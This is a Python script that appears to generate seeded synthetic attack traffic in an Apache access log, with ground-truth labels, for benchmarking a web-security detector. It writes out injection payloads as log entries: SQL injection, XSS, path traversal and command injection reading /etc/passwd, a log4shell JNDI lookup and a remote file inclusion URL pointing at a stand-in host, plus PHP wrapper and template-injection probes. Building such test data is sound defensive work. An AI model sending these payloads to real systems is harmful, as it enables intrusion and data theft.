#!/usr/bin/env python3
"""Seeded attack mixes on the websec benign log (stdlib only), to check that `backsight security`
generalises: every shape's parameters (sizes, rates, paths, payloads, times) are drawn from the
seed, and the shapes are ones the visible set does not have. Not the hidden set: shapes chosen
without it.

usage: zcat $BACKSIGHT_DATA/websec/src/elastic_apache_logs_2015-05-17_18.log.gz |
         python3 websec_gen_mix.py OUT_DIR --seed N
then:  websec_bench --data OUT_DIR
--hard: shapes built to sit where the signals run out (limits, not a bar): campaign members with
the site's own user agents and no shared /24, benign give-ups that fail twice, single-request
probers whose payload one CRS rule flags, a brute force of one attempt every 10-20 minutes.
Shapes: brute force on a drawn login endpoint (basic auth, JSON token, form); a credential-stuffing
campaign (20-60 clients, 1-3 failures each, some from shared /24s, some fetching the login page
first, over 2-10 h); benign users logging in all day (some browse first, a fifth mistype once, a
third of those give up -- inside the campaign hours too); a wordlist scanner (tool or browser
agent); a random-URI 404 flood (abusive, not a scanner); injection probers of one request (classic
payloads) and of 2-4 requests (SSTI, PHP wrappers, log4shell, RFI); a scraper.
"""
import gzip, os, random, string, sys
sys.path.insert(0, os.path.join(os.environ.get('BACKSIGHT_DATA', '../shared/data'), '..', 'tools'))
import websec_mix as W

OUT = sys.argv[1]
SEED = int(sys.argv[sys.argv.index('--seed') + 1]) if '--seed' in sys.argv else 1
HARD = '--hard' in sys.argv
rng = random.Random(1000 + SEED)
os.makedirs(OUT, exist_ok=True)
ben = W.read_benign('/dev/stdin', 1431820800, 1431993600, SEED)
t0 = min(e[0] for e in ben); t1 = max(e[0] for e in ben)
pool = W.IPPool(rng, {e[3] for e in ben})
ev = list(ben); labels = []
L = W.line
SITE = 'http://www.semicomplete.com'
paths = [ln.split('"')[1].split(' ')[1] for _, ln, _, _ in ben if '" 200 ' in ln][:600]
real_uas = sorted({ln.rsplit('"', 2)[-2] for _, ln, _, _ in ben if ln.count('"') >= 6})


def when(span):
    return rng.randint(t0 + 1800, t1 - span - 1800)


def add(ip, kind, rows, origin):
    for t, ln in rows:
        ev.append((int(t), ln, kind, ip))
    labels.append((ip, int(min(r[0] for r in rows)), int(max(r[0] for r in rows)), kind, origin,
                   len(rows)))


# brute force: 2 clients, endpoint and pace drawn
for k in range(2):
    ip = pool.get(); rows = []
    shape = rng.choice(['basic', 'token', 'form'])
    n = rng.randint(25, 150); gap = rng.choice([(1, 3), (5, 30), (60, 300)])
    if HARD:
        n, gap = rng.randint(20, 40), (600, 1200)
    t = when(n * gap[1])
    for j in range(n):
        if shape == 'basic':
            rows.append((t, L(ip, t, 'GET', '/private/', 401, 400, '-', 'curl/7.35.0',
                              user=rng.choice(W.USERS))))
        elif shape == 'token':
            rows.append((t, L(ip, t, 'POST', '/api/v1/auth/token', 401, 60, '-',
                              'python-requests/2.7.0')))
        else:
            rows.append((t, L(ip, t, 'POST', '/user/login', 401, 900, SITE + '/user/login',
                              rng.choice(W.BROWSER_UAS))))
        t += rng.randint(*gap)
    add(ip, 'brute_force', rows, 'gen_bf_' + shape)

# credential stuffing campaign
n_members = rng.randint(20, 60); hours = rng.randint(2, 10)
cs_start = when(hours * 3600)
nets = ['%d.%d.%d' % (rng.randint(11, 200), rng.randint(0, 255), rng.randint(0, 255))
        for _ in range(rng.randint(2, 8))]
share24 = 0 if HARD else rng.random()  # fraction of members from the campaign's /24s
get_first = rng.random() < 0.5
for k in range(n_members):
    ip = pool.get(same24=rng.choice(nets)) if rng.random() < share24 else pool.get()
    t = cs_start + rng.randint(0, hours * 3600); rows = []
    ua = rng.choice(real_uas if HARD else W.BROWSER_UAS)
    if get_first:
        rows.append((t, L(ip, t, 'GET', '/login', 200, 3000, '-', ua))); t += rng.randint(1, 8)
    for j in range(rng.randint(1, 2 if HARD else 3)):
        rows.append((t, L(ip, t, 'POST', '/login', 401, 300, SITE + '/login', ua)))
        t += rng.randint(10, 900)
    add(ip, 'credential_stuffing', rows, 'gen_cs')

# benign users logging in all day (real users' agents; some browsed the site before)
for k in range(300):
    ip = pool.get(); t = t0 + rng.randint(0, t1 - t0 - 3600); ua = rng.choice(real_uas)
    if rng.random() < 0.5:
        for j in range(rng.randint(1, 8)):
            ev.append((t, L(ip, t, 'GET', rng.choice(paths), 200, 5000, '-', ua), 'benign', ip))
            t += rng.randint(1, 120)
    ev.append((t, L(ip, t, 'GET', '/login', 200, 3000, '-', ua), 'benign', ip))
    t += rng.randint(3, 20)
    if rng.random() < 0.2:
        for j in range(rng.randint(1, 2) if HARD else 1):
            ev.append((t, L(ip, t, 'POST', '/login', 401, 300, SITE + '/login', ua), 'benign', ip))
            t += rng.randint(5, 30)
        if rng.random() < 0.33:
            continue
    ev.append((t, L(ip, t, 'POST', '/login', 302, 300, SITE + '/login', ua), 'benign', ip))
    t += 1
    for j in range(rng.randint(1, 6)):
        ev.append((t, L(ip, t, 'GET', rng.choice(paths), 200, 5000, SITE + '/', ua), 'benign', ip))
        t += rng.randint(1, 60)

# wordlist scanner
ip = pool.get(); rows = []
words = ['.git/HEAD', '.env', 'wp-config.php~', 'phpinfo.php', 'admin/', 'server-status',
         'backup.tar.gz', '.htaccess', 'config.yml', 'web.config', 'db.sql', '.DS_Store',
         'administrator/', 'phpmyadmin/', 'cgi-bin/printenv', '.svn/entries', 'install.php']
ua = rng.choice(['Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
                 W.BROWSER_UAS[rng.randrange(5)]])
n = rng.randint(30, 120); t = when(n * 20)
for j in range(n):
    p = '/' + rng.choice(['', 'old/', 'site/', 'app/', 'v%d/' % j]) + rng.choice(words)
    rows.append((t, L(ip, t, 'GET', p, 404, 200, '-', ua))); t += rng.randint(0, 15)
add(ip, 'scanner', rows, 'gen_scan')

# random-URI 404 flood (abusive: load, not discovery)
ip = pool.get(); rows = []
rate = rng.uniform(3, 10); dur = rng.randint(120, 360); t = float(when(dur))
end = t + dur
while t < end:
    p = '/' + ''.join(rng.choice(string.ascii_lowercase + string.digits)
                      for _ in range(rng.randint(6, 16)))
    rows.append((int(t), L(ip, int(t), 'GET', p, 404, 200, '-', rng.choice(W.TOOL_UAS))))
    t += rng.expovariate(rate)
add(ip, 'abusive_client', rows, 'gen_404_flood')

# injection probers of 2-4 requests with payloads CRS sees with one rule each
modern = ['/search?q=%7B%7B7*7%7D%7D', '/?name=${7*7}', '/?x=${jndi:ldap://198.51.100.9/a}',
          '/index.php?page=php://filter/convert.base64-encode/resource=index.php',
          '/index.php?page=expect://id', '/index.php?page=phar://uploads/x.jpg',
          '/?url=http://198.51.100.9/shell.txt?']
# injection probers of one request (classic payloads on real paths)
classic = ["?id=1'%20OR%20'1'='1", "?q=%3Cscript%3Ealert(1)%3C/script%3E",
           "?file=../../../../etc/passwd", "?q=1%20UNION%20SELECT%20null,version()--",
           "?s=%3Cimg%20src=x%20onerror=alert(1)%3E", "?cmd=;cat%20/etc/passwd"]
for k in range(3):
    ip = pool.get(); t = when(60)
    p = rng.choice(modern) if HARD else rng.choice(paths).split('?')[0] + rng.choice(classic)
    add(ip, 'injection_probe', [(t, L(ip, t, 'GET', p, rng.choice([200, 400, 403, 404]), 300, '-',
                                      rng.choice(W.BROWSER_UAS)))], 'gen_inj_single')
for k in range(3):
    ip = pool.get(); t = when(600); rows = []
    for j in range(rng.randint(2, 4)):
        rows.append((t, L(ip, t, 'GET', rng.choice(modern), rng.choice([200, 400, 404, 500]), 300,
                          '-', rng.choice(W.BROWSER_UAS + W.TOOL_UAS))))
        t += rng.randint(1, 120)
    add(ip, 'injection_probe', rows, 'gen_inj_modern')

# scraper
ip = pool.get(); rows = []
rate = rng.uniform(1, 4); dur = rng.randint(240, 900); t = float(when(dur)); end = t + dur
while t < end:
    rows.append((int(t), L(ip, int(t), 'GET', rng.choice(paths), 200, 5000, '-',
                           rng.choice(W.TOOL_UAS[:3] + W.BROWSER_UAS[:1]))))
    t += rng.expovariate(rate)
add(ip, 'abusive_client', rows, 'gen_scrape')

ev.sort(key=lambda e: e[0])
with gzip.GzipFile(os.path.join(OUT, 'access.log.gz'), 'wb', mtime=0) as f:
    for e in ev:
        f.write((e[1] + '\n').encode())
with open(os.path.join(OUT, 'labels.tsv'), 'w') as f:
    f.write('source_ip\tstart_ts\tend_ts\tkind\torigin\tn_requests\n')
    for r in sorted(labels, key=lambda r: (r[1], r[0])):
        f.write('%s\t%d\t%d\t%s\t%s\t%d\n' % r)
    for l in open(os.path.join(os.environ.get('BACKSIGHT_DATA', '../shared/data'), 'websec',
                               'labels.tsv')):
        if '\tignore\t' in l:
            f.write(l)
print(('hard ' if HARD else '') + 'lines=%d attack_rows=%d campaign=%d clients over %d h, %.2f from %d /24s, get_first=%s' % (
    len(ev), len(labels), n_members, hours, share24, len(nets), get_first))
